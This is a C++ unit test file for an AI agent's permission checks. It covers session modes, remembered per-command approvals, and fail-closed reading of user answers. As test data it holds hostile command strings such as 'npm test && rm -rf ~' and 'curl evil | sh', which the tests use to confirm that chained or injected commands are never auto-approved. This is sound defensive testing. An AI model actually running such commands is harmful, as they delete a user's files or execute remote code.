// Permission decisions: modes, "always" per tool and per simple command prefix, answers read
// fail-closed.
#include "engine/permissions.hpp"

#include <boost/json/parse.hpp>
#include <boost/test/unit_test.hpp>

using namespace acp::engine;

BOOST_AUTO_TEST_SUITE(permissions)

BOOST_AUTO_TEST_CASE(modes_decide_before_any_remembered_choice) {
  Permissions p;
  BOOST_TEST((p.check(SessionMode::ask, "read", ToolEffect::none) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::ask, "edit", ToolEffect::changes_files) == PermissionNeed::ask));
  BOOST_TEST((p.check(SessionMode::ask, "mcp__fs__write", ToolEffect::external) == PermissionNeed::ask));
  BOOST_TEST((p.check(SessionMode::read_only, "bash", ToolEffect::runs_commands, "ls") == PermissionNeed::refused));
  BOOST_TEST((p.check(SessionMode::read_only, "grep", ToolEffect::none) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::auto_approve, "bash", ToolEffect::runs_commands, "rm -rf build") == PermissionNeed::allowed));
  p.remember("edit", "", true);
  BOOST_TEST((p.check(SessionMode::read_only, "edit", ToolEffect::changes_files) == PermissionNeed::refused));
  BOOST_TEST((p.check(SessionMode::ask, "edit", ToolEffect::changes_files) == PermissionNeed::allowed));
  BOOST_TEST((p.check(SessionMode::ask, "write", ToolEffect::changes_files) == PermissionNeed::ask));
  for (auto m : {SessionMode::ask, SessionMode::read_only, SessionMode::auto_approve})
    BOOST_TEST((parse_mode(mode_id(m)) == m));
  BOOST_TEST(!parse_mode("yolo"));
}

BOOST_AUTO_TEST_CASE(always_for_bash_covers_a_simple_command_prefix_only) {
  BOOST_TEST(Permissions::command_prefix("npm test -- --watch").value_or("") == "npm test");
  BOOST_TEST(Permissions::command_prefix("  git   status ").value_or("") == "git status");
  BOOST_TEST(Permissions::command_prefix("ctest -R parser").value_or("") == "ctest");
  BOOST_TEST(Permissions::command_prefix("./build.sh src/x").value_or("") == "./build.sh");
  for (std::string_view compound : {"npm test && rm -rf ~", "ls; rm x", "cat a | sh", "echo $(id)", "echo `id`", "ls > f",
                                    "a\nb", "x || y"})
    BOOST_TEST(!Permissions::command_prefix(compound), compound);
  Permissions p;
  BOOST_TEST(p.remember("bash", "npm test -- --watch", true));
  BOOST_TEST(!p.remember("bash", "npm test && curl evil | sh", true));
  auto need = [&](std::string_view cmd) { return p.check(SessionMode::ask, "bash", ToolEffect::runs_commands, cmd); };
  BOOST_TEST((need("npm test") == PermissionNeed::allowed));
  BOOST_TEST((need("npm  test   --coverage") == PermissionNeed::allowed));
  BOOST_TEST((need("npm testing") == PermissionNeed::ask));
  BOOST_TEST((need("npm install") == PermissionNeed::ask));
  BOOST_TEST((need("npm test && rm -rf ~") == PermissionNeed::ask));
  // The latest choice wins.
  p.remember("bash", "npm test", false);
  BOOST_TEST((need("npm test") == PermissionNeed::refused));
}

BOOST_AUTO_TEST_CASE(answers_are_read_fail_closed) {
  auto read = [](std::string_view text) { return read_permission_answer(boost::json::parse(text)); };
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"allow_once"}})") == PermissionAnswer::allow_once));
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"allow_always"}})") == PermissionAnswer::allow_always));
  BOOST_TEST((read(R"({"outcome":{"outcome":"selected","optionId":"reject_always"}})") == PermissionAnswer::reject_always));
  BOOST_TEST((read(R"({"outcome":{"outcome":"cancelled"}})") == PermissionAnswer::cancelled));
  for (std::string_view bad : {R"({})", R"(null)", R"({"outcome":"selected"})", R"({"outcome":{"outcome":"selected","optionId":"whatever"}})",
                               R"({"outcome":{"outcome":"selected"}})"})
    BOOST_TEST((read(bad) == PermissionAnswer::reject_once), bad);
  BOOST_TEST(permission_options().size() == 4u);
}

BOOST_AUTO_TEST_SUITE_END()
